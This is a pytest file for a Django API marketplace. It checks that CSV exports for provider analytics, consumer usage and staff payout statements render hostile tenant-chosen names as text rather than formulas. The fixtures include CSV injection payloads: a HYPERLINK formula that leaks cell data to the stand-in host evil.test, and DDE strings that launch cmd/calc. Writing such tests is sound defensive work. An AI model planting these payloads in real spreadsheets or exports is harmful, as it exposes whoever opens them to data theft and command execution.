"""CSV injection: names another tenant chose (organization, API, plan names) come out of
every export as text, never as formulas: provider analytics, consumer usage and the staff's
payout statements (the provider's own statement: tests/payouts/test_pages.py)."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from apps.metering.events import CallEvent
from apps.metering.flush import apply_events
from apps.subscriptions.services import subscription_create
from tests.catalog.factories import ApiFactory, EndpointFactory
from tests.factories import MembershipFactory
from tests.subscriptions.factories import PlanFactory

pytestmark = pytest.mark.django_db

EVIL_API = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
EVIL_PLAN = "+cmd|' /C calc'!A0"
EVIL_CONSUMER = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = tuple("=+-@\t\r")


@pytest.fixture
def hostile_world(org, owner):
    """`org` provides an API under a hostile name; a consumer with a hostile name calls it."""
    api = ApiFactory(organization=org, slug="evil", name=EVIL_API)
    endpoint = EndpointFactory(api=api, path="/x")
    plan = PlanFactory(api=api, name=EVIL_PLAN, hard_limit=False)
    member = MembershipFactory(organization__name=EVIL_CONSUMER)
    subscription = subscription_create(
        actor=member.user, organization=member.organization, plan=plan
    ).subscription
    now_ms = int(timezone.now().timestamp() * 1000)
    apply_events(
        [
            CallEvent(
                ts_ms=now_ms,
                subscription_id=subscription.pk,
                api_key_id=1,
                endpoint_id=endpoint.pk,
                period_start=int(subscription.current_period_start.timestamp()),
                status=200,
                latency_ms=20,
                units_micro=1_000_000,
                gateway_error=False,
                bytes_in=0,
                bytes_out=10,
            )
        ]
    )
    return member


def cells(response) -> list[str]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def assert_defused(all_cells: list[str], *names: str) -> None:
    assert not [cell for cell in all_cells if cell[:1] in TRIGGERS], all_cells
    for name in names:
        assert "'" + name in all_cells  # the name is there, as text


def test_provider_exports_defuse_consumer_and_api_names(owner_client, hostile_world):
    endpoints = cells(owner_client.get("/console/analytics/", {"export": "endpoints"}))
    assert_defused(endpoints, EVIL_API)
    consumers = cells(owner_client.get("/console/analytics/", {"export": "consumers"}))
    assert_defused(consumers, EVIL_CONSUMER)


def test_consumer_exports_defuse_provider_chosen_names(client, hostile_world):
    client.force_login(hostile_world.user)
    subscriptions = cells(client.get("/console/usage/", {"export": "subscriptions"}))
    assert_defused(subscriptions, EVIL_API, EVIL_PLAN)


def test_staff_payout_statements_defuse_provider_names(client, staff):
    from apps.payouts.models import Payout, PayoutMethod

    provider = MembershipFactory(organization__name=EVIL_CONSUMER).organization
    payout = Payout.objects.create(
        organization=provider,
        period="2026-11",
        amount=Decimal("39.20"),
        currency="USD",
        method=PayoutMethod.MANUAL,
    )
    client.force_login(staff)
    response = client.post(
        "/admin/payouts/payout/",
        {"action": "download_statements", "_selected_action": [payout.pk]},
    )
    assert_defused(cells(response), EVIL_CONSUMER)
    assert "39.20" in cells(response)
